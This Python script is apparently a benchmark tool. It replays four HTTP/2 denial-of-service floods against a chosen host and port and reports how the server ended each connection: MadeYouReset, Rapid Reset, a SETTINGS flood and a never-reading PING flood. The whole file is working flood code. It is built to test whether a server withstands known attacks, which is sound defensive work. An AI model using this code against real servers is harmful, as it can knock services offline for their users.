#!/usr/bin/env python3
"""The HTTP/2 attacker of bench/http2-floods.sh: replays one flood against one server and says how it ended.

    python3 bench/h2_flood.py ATTACK HOST PORT [--tls] [--seconds S] [--streams N] [--connections C] [--path P]

ATTACK is one of:

  madeyoureset  MadeYouReset (CVE-2025-8671): stream after stream on one connection, each made invalid right after
                its HEADERS ended it, so that the server must reset it: a WINDOW_UPDATE of 0 on odd-numbered
                streams (a stream error PROTOCOL_ERROR), DATA after END_STREAM on the others (STREAM_CLOSED). When
                the server ends the connection the attacker opens another, until it has sent --streams (100,000)
                in all or --seconds have passed.
  rapidreset    rapid reset (CVE-2023-44487): the same, each stream cancelled by the client (RST_STREAM CANCEL).
  settings100   --connections (100) connections stream empty SETTINGS frames, reading the server's
                acknowledgements, for --seconds; a connection the server ends is opened again.
  pingnoread    a client with a 4 KiB receive buffer that never reads floods PING and SETTINGS frames; when the
                server closes the connection it reconnects; when the server stops reading (no byte taken for
                STALL_SECONDS) the attacker leaves that connection open, as it is, and opens another. For --seconds.

Writes one line per connection to stderr ("conn ..."), and at the end one line to stdout:

    RESULT attack=... connections=N streams=N frames=N bytes=N resets=N seconds=S
    ENDING <how the first connection ended>; <how all of them ended, counted>

A connection ends in one of: "GOAWAY <code> after <streams or frames>, <resets> resets, <ms> ms" (the server's
GOAWAY, read by the attacker; for the never-reading client, found in the bytes the server had sent, read only after
it closed), "closed after ...", "stopped reading after ..." or "open at the end after ...".

Only the standard library: the frames are written by hand (RFC 9113), the header block with HPACK's static table
and literals without indexing (RFC 7541), as the gateway's RawH2 test client does.
"""

import argparse
import collections
import re
import select
import socket
import ssl
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE = 0x0, 0x1, 0x3, 0x4, 0x6, 0x7, 0x8
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 0x8
ERRORS = {0x0: "NO_ERROR", 0x1: "PROTOCOL_ERROR", 0x2: "INTERNAL_ERROR", 0x3: "FLOW_CONTROL_ERROR",
          0x4: "SETTINGS_TIMEOUT", 0x5: "STREAM_CLOSED", 0x6: "FRAME_SIZE_ERROR", 0x7: "REFUSED_STREAM",
          0x8: "CANCEL", 0x9: "COMPRESSION_ERROR", 0xA: "CONNECT_ERROR", 0xB: "ENHANCE_YOUR_CALM",
          0xC: "INADEQUATE_SECURITY", 0xD: "HTTP_1_1_REQUIRED"}
# Streams written per send: large enough that Python's per-call cost does not set the pace.
STREAMS_PER_BATCH = 100
# Control frames written per send by settings100 and pingnoread (about 9 KiB and 12 KiB).
FRAMES_PER_BATCH = 1000
# A connection whose server takes no byte for this long has stopped reading it (pingnoread, settings100).
STALL_SECONDS = 1.0
# A stream attack's connection whose sends block this long is stalled too.
SEND_TIMEOUT = 2.0
# How long a stream attack waits for the close after a GOAWAY before it moves on.
CLOSE_WAIT = 1.0
# pingnoread: the most connections left open on a server that stopped reading them.
MAX_PARKED = 100


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def literal(index, value):
    """A literal header field without indexing, its name from static table entry INDEX (< 15), no Huffman."""
    data = value.encode()
    return bytes([index, len(data)]) + data


def error_name(code):
    return ERRORS.get(code, "0x%x" % code)


class Frames:
    """Parses what the server sends, frame by frame: GOAWAY, RST_STREAM and SETTINGS are what matter here."""

    def __init__(self):
        self.buffer = bytearray()
        self.resets = 0
        self.goaway = None  # (error code, last stream id)
        self.goaway_at = None  # time.monotonic() when the GOAWAY was parsed
        self.resets_before_goaway = 0
        self.settings_seen = False

    def feed(self, data):
        """Returns whether the server's first SETTINGS arrived in DATA (it must be acknowledged)."""
        self.buffer += data
        first_settings = False
        offset = 0
        while len(self.buffer) - offset >= 9:
            length = int.from_bytes(self.buffer[offset:offset + 3], "big")
            if len(self.buffer) - offset < 9 + length:
                break
            kind, flags = self.buffer[offset + 3], self.buffer[offset + 4]
            payload = self.buffer[offset + 9:offset + 9 + length]
            if kind == RST_STREAM:
                self.resets += 1
            elif kind == GOAWAY and length >= 8 and self.goaway is None:
                self.goaway = (int.from_bytes(payload[4:8], "big"),
                               int.from_bytes(payload[0:4], "big") & 0x7FFFFFFF)
                self.goaway_at = time.monotonic()
                self.resets_before_goaway = self.resets
            elif kind == SETTINGS and not flags & ACK and not self.settings_seen:
                self.settings_seen = True
                first_settings = True
            offset += 9 + length
        del self.buffer[:offset]
        return first_settings


def connect(args, receive_buffer=None):
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    if receive_buffer:
        # Before the connect, so that the window the kernel advertises is the small one.
        sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receive_buffer)
    sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock.settimeout(5)
    sock.connect((args.host, args.port))
    if args.tls:
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        context.check_hostname = False
        context.verify_mode = ssl.CERT_NONE
        context.set_alpn_protocols(["h2"])
        sock = context.wrap_socket(sock, server_hostname="localhost")
        if sock.selected_alpn_protocol() != "h2":
            raise ConnectionError("the server did not choose h2 by ALPN")
    sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
    return sock


def describe(end, what, count, resets, started, at=None):
    """How a connection ended: at AT (default now), after COUNT streams or frames written and RESETS received."""
    ms = ((at or time.monotonic()) - started) * 1000
    return "%s after %d %s written, %d resets, %.0f ms" % (end, count, what, resets, ms)


def goaway_text(frames):
    """GOAWAY's code, and its last stream when it names one (a server that names 2^31-1 names none)."""
    code, last = frames.goaway
    text = "GOAWAY %s" % error_name(code)
    return text if last == 0x7FFFFFFF else "%s (last stream %d)" % (text, last)


# ---------------------------------------------------------------------------------------------------------------
# madeyoureset, rapidreset: many streams on a connection, each made invalid or cancelled
def stream_batch(args, first_stream, count, attack):
    out = bytearray()
    authority = literal(1, "%s:%d" % (args.host, args.port))
    scheme = 0x87 if args.tls else 0x86  # :scheme https / http (static indexes 7, 6)
    block = bytes([0x82, scheme]) + literal(4, args.path) + authority  # :method GET (index 2)
    for i in range(count):
        stream = first_stream + 2 * i
        out += frame(HEADERS, END_HEADERS | END_STREAM, stream, block)
        if attack == "rapidreset":
            out += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
        elif (stream // 2) % 2 == 0:  # streams 1, 5, 9, ...
            out += frame(WINDOW_UPDATE, 0, stream, struct.pack(">I", 0))
        else:
            out += frame(DATA, 0, stream, b"x")
    return out


def stream_connection(args, budget, deadline):
    """One connection of a stream attack. Returns (streams sent, frames sent, bytes sent, resets, ending)."""
    started = time.monotonic()
    sock = connect(args)
    sock.settimeout(SEND_TIMEOUT)
    frames = Frames()
    state = {"closed": False, "ack": False}
    # Guards the parser's counts; the reader never waits on the writer (a server whose writes back up may stop
    # reading until the client reads again), so the writer alone sends, the SETTINGS acknowledgement too.
    lock = threading.Lock()

    def read():
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    break
                with lock:
                    had_goaway = frames.goaway is not None
                    if frames.feed(data):
                        state["ack"] = True
                    if not had_goaway and frames.goaway is not None:
                        state["sent_at_goaway"] = state.get("sent", 0)
        except OSError:
            pass
        state["closed_at"] = time.monotonic()
        state["sent_at_close"] = state.get("sent", 0)
        state["closed"] = True

    reader = threading.Thread(target=read, daemon=True)
    reader.start()
    sent = sent_bytes = 0
    ending = None
    stream = 1
    while sent < budget and time.monotonic() < deadline:
        with lock:
            if frames.goaway is not None:
                break
        if state["closed"]:
            break
        state["sent"] = sent
        count = min(STREAMS_PER_BATCH, budget - sent, (0x7FFFFFFF - stream) // 2)
        if count <= 0:
            break
        batch = stream_batch(args, stream, count, args.attack)
        if state["ack"]:
            state["ack"] = False
            batch = frame(SETTINGS, ACK, 0) + batch
        try:
            sock.sendall(batch)
        except socket.timeout:
            ending = describe("stopped reading", "streams", sent, frames.resets, started)
            break
        except OSError:
            break
        sent += count
        sent_bytes += len(batch)
        stream += 2 * count
    # Let the reader see the GOAWAY or the close that is on its way.
    if ending is None:
        reader.join(CLOSE_WAIT)
    with lock:
        goaway, resets = frames.goaway, frames.resets
    if ending is None:
        # Counted when the reader saw the GOAWAY or the close, not when the writer noticed.
        if goaway is not None:
            ending = describe(goaway_text(frames), "streams", state.get("sent_at_goaway", sent),
                              frames.resets_before_goaway, started, frames.goaway_at)
        elif state["closed"]:
            ending = describe("closed", "streams", state["sent_at_close"], resets, started, state["closed_at"])
        else:
            ending = describe("open at the end", "streams", sent, resets, started)
    try:
        sock.close()
    except OSError:
        pass
    reader.join(1)
    return sent, sent * 2, sent_bytes, resets, ending


def stream_attack(args):
    deadline = time.monotonic() + args.seconds
    totals = collections.Counter()
    endings = []
    while totals["streams"] < args.streams and time.monotonic() < deadline:
        try:
            streams, frames, sent, resets, ending = stream_connection(args, args.streams - totals["streams"],
                                                                      deadline)
        except OSError as e:
            # Connection refused or reset before the preface went out: count it and go on.
            ending = "refused (%s)" % (e.strerror or e)
            streams = frames = sent = resets = 0
            time.sleep(0.01)
        totals.update(streams=streams, frames=frames, bytes=sent, resets=resets, connections=1)
        endings.append(ending)
        print("conn %d %s" % (len(endings), ending), file=sys.stderr)
    return totals, endings


# ---------------------------------------------------------------------------------------------------------------
# settings100, pingnoread: control frames over non-blocking sockets
class Control:
    def __init__(self, args, reading):
        self.started = time.monotonic()
        self.sock = connect(args, None if reading else 4096)
        self.sock.setblocking(False)
        self.reading = reading
        self.frames = Frames()
        self.sent_frames = 0
        self.sent_bytes = 0
        self.pending = b""
        self.last_progress = self.started
        self.ending = None

    def describe(self, end):
        return describe(end, "frames", self.sent_frames, self.frames.resets, self.started)


def control_batch(attack):
    if attack == "settings100":
        return frame(SETTINGS, 0, 0) * FRAMES_PER_BATCH
    # pingnoread: PING and SETTINGS, each of which the server must answer.
    return (frame(PING, 0, 0, b"\0" * 8) + frame(SETTINGS, 0, 0)) * (FRAMES_PER_BATCH // 2)


def drain_after_close(conn):
    """Reads what the server sent before it closed a never-reading connection: was there a GOAWAY in it?"""
    try:
        conn.sock.setblocking(True)
        conn.sock.settimeout(0.2)
        while True:
            data = conn.sock.recv(65536)
            if not data:
                break
            conn.frames.feed(data)
    except (OSError, ValueError):
        pass


def end_control(conn, end):
    if conn.ending is not None:
        return
    if end == "closed" and not conn.reading:
        drain_after_close(conn)
    if conn.frames.goaway is not None:
        end = goaway_text(conn.frames)
    conn.ending = conn.describe(end)
    try:
        conn.sock.close()
    except OSError:
        pass


def control_attack(args):
    reading = args.attack == "settings100"
    batch = control_batch(args.attack)
    frames_per_batch = FRAMES_PER_BATCH
    wanted = args.connections if reading else 1
    deadline = time.monotonic() + args.seconds
    active, parked, finished = [], [], []
    totals = collections.Counter()

    def open_one():
        try:
            active.append(Control(args, reading))
            totals["connections"] += 1
        except OSError as e:
            finished.append("refused (%s)" % (e.strerror or e))
            totals["connections"] += 1
            time.sleep(0.01)

    while time.monotonic() < deadline:
        while len(active) < wanted and time.monotonic() < deadline:
            open_one()
        if not active:
            continue
        readable = [c.sock for c in active] if reading else []
        writable = [c.sock for c in active]
        by_sock = {c.sock: c for c in active}
        try:
            r, w, _ = select.select(readable, writable, [], 0.05)
        except (OSError, ValueError):
            r, w = [], []
        now = time.monotonic()
        for sock in r:
            conn = by_sock[sock]
            try:
                data = sock.recv(262144)
                if not data:
                    end_control(conn, "closed")
                    continue
                if conn.frames.feed(data):
                    conn.pending = frame(SETTINGS, ACK, 0) + conn.pending
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                pass
            except OSError:
                end_control(conn, "closed")
        for sock in w:
            conn = by_sock[sock]
            if conn.ending is not None:
                continue
            if not conn.pending:
                conn.pending = batch
            try:
                n = sock.send(conn.pending)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                continue
            except OSError:
                end_control(conn, "closed")
                continue
            if n > 0:
                conn.last_progress = now
                conn.sent_bytes += n
                # Frames are counted whole batches at a time, when the batch's last byte went out.
                conn.pending = conn.pending[n:]
                if not conn.pending:
                    conn.sent_frames += frames_per_batch
            if conn.frames.goaway is not None:
                end_control(conn, "GOAWAY")
        for conn in list(active):
            if conn.ending is None and conn.frames.goaway is not None:
                end_control(conn, "GOAWAY")
            if conn.ending is None and now - conn.last_progress > STALL_SECONDS:
                conn.ending = conn.describe("stopped reading")
                if reading:
                    conn.last_progress = now  # a reading attacker waits on; it is counted at the end
                    conn.ending = None
                else:
                    # The never-reading attacker leaves it as it is and opens another.
                    active.remove(conn)
                    parked.append(conn)
                    if len(parked) > MAX_PARKED:
                        old = parked.pop(0)
                        old.sock.close()
                    finished.append(conn.ending)
                    totals.update(frames=conn.sent_frames, bytes=conn.sent_bytes, resets=conn.frames.resets)
                    print("conn %d %s" % (len(finished), conn.ending), file=sys.stderr)
                    continue
            if conn.ending is not None:
                active.remove(conn)
                finished.append(conn.ending)
                totals.update(frames=conn.sent_frames, bytes=conn.sent_bytes, resets=conn.frames.resets)
                print("conn %d %s" % (len(finished), conn.ending), file=sys.stderr)
    for conn in active:
        if reading and time.monotonic() - conn.last_progress > STALL_SECONDS:
            conn.ending = conn.describe("stopped reading")
        else:
            conn.ending = conn.describe("open at the end")
        finished.append(conn.ending)
        totals.update(frames=conn.sent_frames, bytes=conn.sent_bytes, resets=conn.frames.resets)
        conn.sock.close()
    for conn in parked:
        conn.sock.close()
    return totals, finished


def summary(endings):
    """The first connection's ending, then every kind of ending with its count (the numbers left out)."""
    kinds = collections.Counter(re.sub(r" \(last stream \d+\)", "", e.split(" after ")[0]) for e in endings)
    counted = ", ".join("%s x%d" % (k, n) for k, n in kinds.most_common())
    return "%s; all %d: %s" % (endings[0] if endings else "no connection", len(endings), counted)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n")[0])
    parser.add_argument("attack", choices=["madeyoureset", "rapidreset", "settings100", "pingnoread"])
    parser.add_argument("host")
    parser.add_argument("port", type=int)
    parser.add_argument("--tls", action="store_true")
    parser.add_argument("--seconds", type=float, default=10)
    parser.add_argument("--streams", type=int, default=100_000)
    parser.add_argument("--connections", type=int, default=100)
    parser.add_argument("--path", default="/")
    args = parser.parse_args()
    started = time.monotonic()
    if args.attack in ("madeyoureset", "rapidreset"):
        totals, endings = stream_attack(args)
    else:
        totals, endings = control_attack(args)
    print("RESULT attack=%s connections=%d streams=%d frames=%d bytes=%d resets=%d seconds=%.2f" % (
        args.attack, totals["connections"], totals["streams"], totals["frames"], totals["bytes"],
        totals["resets"], time.monotonic() - started))
    print("ENDING " + summary(endings))


if __name__ == "__main__":
    main()
